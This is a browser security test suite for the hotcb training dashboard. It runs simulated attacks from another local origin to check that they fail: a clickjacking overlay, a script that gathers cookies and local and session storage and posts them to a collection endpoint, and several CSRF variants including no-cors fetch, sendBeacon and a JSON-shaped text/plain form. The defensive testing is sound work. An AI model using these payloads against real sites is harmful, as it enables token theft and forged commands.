"""Attacks from another website, in a real browser (headless Chromium): the victim has opened
the dashboard (so the browser holds its token), then visits the attacker's page, served from
another origin (another port of 127.0.0.1: the same site, to which a browser would send even a
SameSite=Strict cookie of the dashboard). Plus the page itself: it works under its CSP, with
no token in any URL it uses and none in a cookie."""

from __future__ import annotations

import json
import os
import re
import time
from typing import Any

import pytest

from hotcb import HotKernel, loss_actuators, mutable_state

pytestmark = [pytest.mark.slow, pytest.mark.browser]


def _steerable_run(path: Any) -> str:
    """A run with metrics and actuators (so the page shows charts and controls)."""
    from hotcb.metrics import MetricsCollector

    run = os.fspath(path)
    kernel = HotKernel(run, mutable_state=mutable_state(loss_actuators({"ce": 1.0, "l2": 0.0})))
    kernel.apply({"step": 0})
    kernel.flush()  # not close(): the run stays live, so the page lets you steer it
    with MetricsCollector(run) as m:
        for s in range(40):
            m.log(s, {"loss": 1.0 / (s + 1), "lr": 0.01})
    return run


def _open_dashboard(page: Any, srv: Any) -> None:
    """What the victim did earlier: open the printed URL (the browser now holds the token)."""
    page.goto(f"{srv.url}/?token={srv.token}&run=r")
    page.wait_for_function(
        "() => window.hotcb && window.hotcb.debug().connected && window.hotcb.debug().run === 'r'"
    )


def test_dashboard_cannot_be_framed_by_another_site(
    tmp_path: Any, live_server: Any, read_commands: Any, other_origin: Any, page: Any
) -> None:
    """Clickjacking: the attacker's page lays the dashboard in a full-size iframe under a bait
    button placed where *Pause* is, and the victim clicks it. The frame is refused
    (``frame-ancestors 'self'``), so the click reaches nothing and the run gets no command."""
    run = _steerable_run(tmp_path / "r")
    srv = live_server()
    _open_dashboard(page, srv)
    box = page.locator("#btn-pause").bounding_box()
    x, y = box["x"] + box["width"] / 2, box["y"] + box["height"] / 2
    evil = other_origin(
        {
            "/": f"""<!doctype html><html><body style="margin:0">
            <button style="position:absolute;left:{x - 40}px;top:{y - 15}px;width:80px;
              height:30px">Win!</button>
            <iframe id="f" src="{srv.url}/?run=r" onload="this.dataset.loaded = '1'"
              style="position:absolute;left:0;top:0;width:1440px;height:1000px;border:0;
              opacity:0.01;z-index:2"></iframe>
            </body></html>"""
        }
    )
    page.goto(evil + "/")
    page.wait_for_function("() => document.getElementById('f').dataset.loaded === '1'")
    (frame,) = [f for f in page.frames if f is not page.main_frame]
    # give a dashboard that did load every chance to come up before the click
    deadline = time.monotonic() + 5
    loaded = False
    while time.monotonic() < deadline and not loaded:
        try:
            loaded = frame.evaluate("() => !!(window.hotcb && window.hotcb.debug().connected)")
        except Exception:  # the error page of a refused frame may not be scriptable
            loaded = False
        time.sleep(0.2)
    page.mouse.click(x, y)
    time.sleep(1.5)  # a command, had one been sent, is appended within milliseconds
    assert read_commands(run) == []  # the click reached no dashboard
    assert not loaded, "the dashboard loaded inside another site's frame"
    assert not frame.url.startswith(srv.url) or frame.evaluate("() => !window.hotcb")
    refusals = [m for m in page.console if "frame-ancestors" in m]
    assert refusals, page.console  # Chromium says why it refused the frame


def test_page_works_under_its_csp_with_the_token_only_in_its_storage(
    tmp_path: Any, live_server: Any, read_commands: Any, page: Any
) -> None:
    """The real page under the strict CSP: charts, controls and the WebSocket work, the
    browser reports no CSP violation, and after the first address no URL carries the token
    (the address bar, every fetch, the WebSocket). The page keeps it in its origin's storage
    and presents it in a header; the browser holds no cookie of the dashboard's."""
    run = _steerable_run(tmp_path / "r")
    srv = live_server()
    requests: list[Any] = []
    sockets: list[str] = []
    page.on("request", lambda r: requests.append(r))
    page.on("websocket", lambda ws: sockets.append(ws.url))
    _open_dashboard(page, srv)
    page.wait_for_function(
        "() => { const d = window.hotcb.debug();"
        " return d.charts.length > 0 && d.charts.every(c => c.canvas) && d.controls.length > 0; }"
    )
    assert "token" not in page.url and page.url == f"{srv.url}/?run=r"
    urls = [r.url for r in requests]
    assert urls[0] == f"{srv.url}/?token={srv.token}&run=r"  # what the victim opened
    assert urls[1:] and not [u for u in urls[1:] if srv.token in u or "token=" in u]
    assert sockets and not [u for u in sockets if "token" in u]
    api_calls = [r for r in requests if "/api/" in r.url]
    assert api_calls and all(
        r.headers.get("authorization") == f"Bearer {srv.token}" for r in api_calls
    ), [(r.url, r.headers.get("authorization")) for r in api_calls]
    assert page.context.cookies() == [] and page.evaluate("document.cookie") == ""
    assert page.evaluate("localStorage.getItem('hotcb.token')") == srv.token

    # steer: Pause reaches the run; the tooltip and charts redraw
    page.click("#btn-pause")
    deadline = time.monotonic() + 10
    while not read_commands(run) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert [c["op"] for c in read_commands(run)] == ["pause"]
    page.locator(".chart-card").first.hover()
    page.set_viewport_size({"width": 900, "height": 800})
    page.wait_for_timeout(500)

    violations = page.evaluate("window.__violations")
    assert violations == [], violations
    csp_messages = [m for m in page.console if "Content Security Policy" in m]
    errors = [m for m in page.console if m.startswith(("error", "pageerror"))]
    assert csp_messages == [] and errors == [], page.console


def test_a_page_on_another_port_of_this_host_never_learns_the_token(
    tmp_path: Any, live_server: Any, other_origin: Any, page: Any
) -> None:
    """Another local user's web server on another port of 127.0.0.1: browsers keep neither
    cookies nor ``SameSite`` apart by port, so a token kept in a cookie went along with every
    request that server's page made to its own server. The victim opened the dashboard, then
    is led to that page, which sends itself everything the browser attaches or lets it read
    (``credentials: "include"``, the cookies and the storage of its origin). None of it holds
    the token."""
    _steerable_run(tmp_path / "r")
    srv = live_server()
    _open_dashboard(page, srv)
    evil = other_origin(
        {
            "/": """<!doctype html><html><body><img src="/pixel.gif"><script>
            const loot = JSON.stringify({cookie: document.cookie, local: {...localStorage},
                                         session: {...sessionStorage}});
            Promise.all([
              fetch("/collect", {credentials: "include"}),
              fetch("/collect", {method: "POST", credentials: "include", body: loot}),
            ]).then(() => { window.__done = true; });
            </script></body></html>""",
            "/collect": "thanks",
        }
    )
    page.goto(evil + "/")
    page.wait_for_function("() => window.__done === true")
    paths = [path for _, path, _ in other_origin.requests]
    assert paths.count("/collect") == 2 and "/pixel.gif" in paths, paths
    leaked = [r for r in other_origin.requests if srv.token in json.dumps(r)]
    assert leaked == [], leaked


def test_other_site_cannot_post_commands(
    tmp_path: Any,
    live_server: Any,
    make_run: Any,
    read_commands: Any,
    other_origin: Any,
    page: Any,
) -> None:
    """CSRF: every way a page on another origin can POST without the server's consent
    (``no-cors`` fetch as text/plain, as a form type, as a typeless Blob, ``sendBeacon``, a
    ``text/plain`` form shaped as JSON, a JSON fetch that needs a preflight), with the
    victim's token in the browser. Nothing reaches the commands file."""
    run = make_run(tmp_path / "r")
    srv = live_server()
    page.goto(f"{srv.url}/?token={srv.token}&run=r")  # the victim's browser holds the token
    target = f"{srv.url}/api/runs/r/commands"
    body = json.dumps({"module": "control", "op": "pause"})
    script = f"""
    const target = {json.dumps(target)}, body = {json.dumps(body)};
    const tries = [
      fetch(target, {{method: "POST", mode: "no-cors", credentials: "include",
                      headers: {{"Content-Type": "text/plain"}}, body}}),
      fetch(target, {{method: "POST", mode: "no-cors", credentials: "include",
                      headers: {{"Content-Type": "application/x-www-form-urlencoded"}}, body}}),
      fetch(target, {{method: "POST", mode: "no-cors", credentials: "include",
                      body: new Blob([body])}}),
      fetch(target, {{method: "POST", mode: "cors", credentials: "include",
                      headers: {{"Content-Type": "application/json"}}, body}}),
    ].map(p => p.then(r => "answered", e => "blocked"));
    navigator.sendBeacon(target, new Blob([body], {{type: "text/plain"}}));
    const sink = document.getElementById("sink");
    const formDone = new Promise(ok => sink.addEventListener("load", ok, {{once: true}}));
    document.getElementById("form").submit();
    Promise.all([...tries, formDone]).then(r => {{ window.__done = r; }});
    """
    evil = other_origin(
        {
            "/": f"""<!doctype html><html><body>
            <iframe name="sink" id="sink"></iframe>
            <form id="form" method="POST" enctype="text/plain" action="{target}" target="sink">
              <input type="hidden" name='{{"module":"control","op":"pause","x":"' value='"}}'>
            </form>
            <script>{script}</script>
            </body></html>"""
        }
    )
    posts: list[str] = []
    page.on("request", lambda r: posts.append(r.method) if r.url == target else None)
    page.goto(evil + "/")
    page.wait_for_function("() => window.__done !== undefined", timeout=15000)
    time.sleep(1.0)  # sendBeacon is fire-and-forget
    assert posts.count("POST") >= 4  # the attempts did leave the browser
    assert read_commands(run) == []


def test_api_reference_loads_nothing_from_elsewhere(live_server: Any, page: Any) -> None:
    """``/docs`` in the browser: the API's reference shows every route, under the dashboard's
    own CSP (no violation), and every request it makes stays on the dashboard's origin (it
    loaded Swagger UI from a CDN, a script that could have read the page's token)."""
    srv = live_server()
    requests: list[str] = []
    page.on("request", lambda r: requests.append(r.url))
    page.goto(f"{srv.url}/docs")
    page.get_by_role("link", name="POST /api/runs/{run_id}/commands").click()
    assert page.url.endswith("#post-api-runs-run-id-commands")
    assert (
        page.locator("#post-api-runs-run-id-commands pre")
        .inner_text()
        .startswith('curl -X POST -H "Authorization: Bearer $HOTCB_TOKEN"')
    )
    assert page.evaluate("getComputedStyle(document.body).maxWidth") == "960px"  # its sheet
    assert requests and [u for u in requests if not u.startswith(srv.url + "/")] == [], requests
    assert page.evaluate("window.__violations") == []
    assert [m for m in page.console if m.startswith(("error", "pageerror"))] == [], page.console


def test_a_link_with_a_wrong_token_does_not_lock_the_dashboard_out(
    tmp_path: Any, live_server: Any, other_origin: Any, page: Any
) -> None:
    """Any site can send the browser to ``…/#token=junk``: the page tries that token, and on
    the server's 401 goes back to the one it holds, which stays stored for every tab."""
    _steerable_run(tmp_path / "r")
    srv = live_server()
    _open_dashboard(page, srv)
    evil = other_origin(
        {"/": f"<script>location = {json.dumps(srv.url + '/?run=r#token=junk')};</script>"}
    )
    page.goto(evil + "/")
    page.wait_for_url(f"{srv.url}/?run=r")
    page.wait_for_function(
        "() => window.hotcb && window.hotcb.debug().connected && window.hotcb.debug().run === 'r'"
        " && !window.hotcb.debug().authFailed"
    )
    assert page.evaluate("localStorage.getItem('hotcb.token')") == srv.token
    assert page.locator("#conn").inner_text() == "live"


def test_a_chosen_token_with_url_characters_opens_the_page(
    tmp_path: Any, serve: Any, page: Any
) -> None:
    """A token of one's own with ``+ / = & # %`` in it (``openssl rand -base64``): the printed
    URL carries it encoded, and opening it gets the page in with exactly that token."""
    _steerable_run(tmp_path / "runs" / "r")
    token = "Xy+Z/w==&a#b%c d"
    srv = serve(tmp_path / "runs", env={"HOTCB_TOKEN": token})
    (printed,) = re.findall(r"hotcb dashboard for .*: (http://\S+)", srv.stdout())
    assert printed == f"{srv.url}/?token=Xy%2BZ%2Fw%3D%3D%26a%23b%25c+d"
    page.goto(printed + "&run=r")
    page.wait_for_function(
        "() => window.hotcb && window.hotcb.debug().connected && window.hotcb.debug().run === 'r'"
        " && window.hotcb.debug().charts.length > 0"
    )
    assert page.evaluate("localStorage.getItem('hotcb.token')") == token
    assert page.url == f"{srv.url}/?run=r"
